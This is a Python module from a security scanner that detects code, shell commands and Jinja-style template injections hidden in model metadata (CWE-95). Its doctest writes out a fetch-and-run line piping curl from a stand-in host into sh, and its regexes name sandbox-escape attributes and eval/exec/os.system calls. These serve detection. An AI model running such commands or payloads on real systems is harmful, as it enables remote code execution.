"""Finds code in the metadata of a model, where loaders expect a description and some evaluate what they find.

>>> [fault.message[-20:] for fault in text_faults(["curl http://x.example/a | sh"], "metadata 'note'")]
['it is a command line']
>>> list(text_faults(["It never calls os.system('x')."], "metadata 'note'"))
[]

Source: CWE-95.
"""

from __future__ import annotations

import re
from collections.abc import Iterable, Iterator
from typing import Final

from scanner.acting_text import PYTHON, acting
from scanner.code.calls import UnreadableSourceError, find_calls
from scanner.findings import Severity
from scanner.graphs.fault import GraphFault
from scanner.graphs.paths import shown

# Prose that is no Python is shorter; a longer text may be code with too much in it to be parsed.
_LONGEST_PROSE: Final = 64 * 1024
# A template that reaches into Python; everything else that is code is found by reading it as Python.
_TEMPLATE: Final = re.compile(r"\{[{%]")
_REACHING: Final = re.compile(r"__(class|subclasses|globals|builtins|import|mro|base)__")
_CALLING: Final = re.compile(r"\b(__import__|eval|exec|os\.(system|popen)|subprocess\.\w{1,20})\s{0,9}\(")


def text_faults(texts: Iterable[str], where: str) -> Iterator[GraphFault]:
    """What is wrong with the texts of one place, the first that is code."""
    if does := next(filter(None, map(_code_in, texts)), ""):
        yield GraphFault(
            "code-in-metadata",
            where,
            f"it holds code where loaders, some of which evaluate it, expect a plain value: {does}",
            Severity.HIGH,
            ("CWE-95",),
        )


def _code_in(text: str) -> str:
    """What a value does when it is evaluated, or ""; prose about code is none, since it is not Python."""
    if found := _template_in(text):
        return shown(found)
    if (does := acting(text)) and does != PYTHON:  # of which more is known once it is parsed
        return f"it is {does}"
    if "(" not in text:
        return ""
    try:
        sites = find_calls(text.strip().encode("utf-8", "replace"))
    except UnreadableSourceError:
        called = _CALLING.search(text) if len(text) > _LONGEST_PROSE else None
        return f"it calls {shown(called[0])}" if called else ""
    harmful = (site for site in sites if site.severity.rank >= Severity.HIGH.rank)
    return next((f"it {site.sentence}" for site in harmful), "")


def _template_in(text: str) -> str:
    """The first template that reaches into Python, up to where it does, or ""; each is looked at once."""
    begin = _TEMPLATE.search(text)
    while begin:
        end = text.find("}", begin.end())
        end = len(text) if end < 0 else end
        if found := _REACHING.search(text, begin.end(), end):
            return text[begin.start() : found.end()]
        begin = _TEMPLATE.search(text, end)
    return ""
